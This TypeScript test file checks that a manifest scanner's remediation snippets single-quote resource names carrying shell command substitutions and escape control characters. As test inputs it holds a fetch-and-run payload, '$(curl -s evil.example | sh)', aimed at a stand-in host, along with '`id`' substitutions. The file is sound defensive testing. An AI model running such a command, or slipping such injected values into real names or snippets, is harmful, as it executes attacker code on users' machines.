// Remediation snippets are pasted into shells and YAML files. Names from the
// hostile scenario carry `$(…)` and backticks: in every snippet they must sit
// inside single quotes, where a POSIX shell reads them literally.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { quoteForSnippet } from '../../src/engine/interpolate.ts';
import { scanManifests } from '../helpers/scan.ts';

const repo = new URL('../../', import.meta.url).pathname;

/** Offsets of `$(` and backticks a POSIX shell would act on: outside single quotes, escapes honoured. */
function liveSubstitutions(s: string): number[] {
  const out: number[] = [];
  let single = false;
  let double = false;
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (single) {
      if (c === "'") single = false;
      continue;
    }
    if (c === '\\') {
      i++;
      continue;
    }
    if (c === "'" && !double) single = true;
    else if (c === '"') double = !double;
    else if (c === '`' || (c === '$' && s[i + 1] === '(')) out.push(i);
  }
  return out;
}

describe('quoteForSnippet', () => {
  it('leaves plain names alone and quotes everything else as one literal word', () => {
    expect(quoteForSnippet('web-7f9c')).toBe('web-7f9c');
    expect(quoteForSnippet('system:serviceaccount:ci:deployer')).toBe('system:serviceaccount:ci:deployer');
    expect(quoteForSnippet('$(curl -s evil.example | sh)')).toBe("'$(curl -s evil.example | sh)'");
    expect(quoteForSnippet("it's")).toBe("'it'\\''s'");
    expect(quoteForSnippet('')).toBe("''");
    expect(quoteForSnippet('a\nb\u202ec')).toBe("'a\\u{a}b\\u{202e}c'");
    expect(liveSubstitutions(quoteForSnippet('`id` $(id)'))).toEqual([]);
  });
});

describe('remediations of the hostile scenario', () => {
  const result = scanManifests(join(repo, 'test/scenarios/hostile'));
  const remediations = result.results.filter((r) => r.remediation).map((r) => ({ id: r.controlId, text: r.remediation! }));

  it('has findings with remediations to check', () => {
    expect(remediations.length).toBeGreaterThan(5);
  });

  it('never leaves a command substitution from a name live', () => {
    // The payload does reach remediations (the RoleBinding named after it), so the check below is not vacuous.
    expect(remediations.some((r) => r.text.includes('$(curl'))).toBe(true);
    const live = remediations
      .filter((r) => /\$\(curl|`id`|\$\(id\)/.test(r.text))
      .filter((r) => liveSubstitutions(r.text).some((i) => /^(\$\(curl|\$\(id|`id`)/.test(r.text.slice(i))))
      .map((r) => `${r.id}: ${r.text.slice(0, 200)}`);
    expect(live).toEqual([]);
  });

  it('shows control characters instead of embedding them', () => {
    for (const r of remediations) expect(r.text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u0000-\u0008\u001b]/);
  });
});
